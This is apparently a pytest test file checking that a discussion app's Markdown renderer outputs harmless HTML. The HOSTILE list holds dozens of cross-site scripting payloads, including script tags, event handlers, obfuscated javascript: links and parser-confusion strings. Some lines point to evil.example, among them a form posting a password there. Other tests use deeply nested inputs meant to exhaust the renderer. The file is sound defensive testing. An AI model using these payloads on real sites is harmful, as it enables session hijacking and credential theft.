"""What one person writes in Markdown cannot run, or pretend, for another who reads it as HTML."""

import pytest

from app import markdown
from tests.answers import ok
from tests.cast import Api
from tests.harmless import harmless

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>@import 'https://evil.example'</style>",
    "<base href='https://evil.example'>",
    "<form action='https://evil.example'><input name=password>",
    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img src=1 onerror=a()&gt;'>",  # noqa: E501
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- <b> --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
    '[x](https://e.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<https://e.example/\"onclick='alert(1)'>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "[![x](x)](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|b|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<x" + "\x0c" + "onclick=alert(1)>",
    "# <script>alert(1)</script>",
    "<a\x00href='javascript:alert(1)'>x</a>",
    "<" * 500 + "script>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_becomes_harmless_html(source: str) -> None:
    html = markdown.render(source)
    assert harmless(html), html
    assert "<script" not in html.lower() and "<img" not in html.lower()


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("What *works*?", "<p>What <em>works</em>?</p>\n"),
        ("**a** ~~b~~ `c`", "<p><strong>a</strong> <s>b</s> <code>c</code></p>\n"),
        ("# One\n\n> two", "<h1>One</h1>\n<blockquote>\n<p>two</p>\n</blockquote>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
        ("![a picture](https://example.org/x.png)", None),
        (
            "[the act](https://example.org/act?a=1&b=2)",
            '<p><a href="https://example.org/act?a=1&amp;b=2"'
            ' rel="nofollow noopener noreferrer ugc">the act</a></p>\n',
        ),
        ("|a|\n|-|\n|b|", None),
        ("français, 日本語, עברית", "<p>français, 日本語, עברית</p>\n"),
    ],
)
def test_what_members_mean_is_shown(source: str, html: str | None) -> None:
    rendered = markdown.render(source)
    assert harmless(rendered)
    assert html is None or rendered == html


def test_the_checker_itself_knows_harm() -> None:
    """A net that catches nothing would pass every other test here."""
    for html in (
        "<script>1</script>",
        "<p onclick=x>",
        '<a href="javascript:x" rel="nofollow">',
        '<a href="java\nscript:x" rel="nofollow">',
        '<a href="https://e.example">',
        "<!-- x -->",
        "<img src=x>",
    ):
        assert not harmless(html), html


@pytest.mark.parametrize(
    "source",
    [
        "> " * 15_000,
        "[" * 30_000,
        "*a_ " * 8_000,
        "`" * 200 + "a`" * 10_000,
        "- a\n" + "".join("  " * level + "- a\n" for level in range(150)),
        "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000,
        "&amp" * 8_000,
        "\n" * 40_000,
    ],
    ids=lambda source: source[:6],
)
async def test_long_and_deep_texts_are_rendered_apart_from_the_loop(source: str) -> None:
    assert harmless(await markdown.rendered(source))


async def test_a_post_is_stored_as_it_was_written_and_shown_as_harmless_html(api: Api) -> None:
    chair = await api.leader("Claire Chair", "chair")
    source = "<b onclick=alert(1)>[x](javascript:alert(1))</b> **really**"
    started = await api.discussion(chair, body=source)
    post = started["opening_post"]
    assert post["body"] == source
    assert harmless(post["body_html"]) and "<strong>really</strong>" in post["body_html"]
    shown = ok(await chair.get(f"/discussions/{started['id']}/posts"))["items"][0]
    assert shown["body_html"] == post["body_html"]
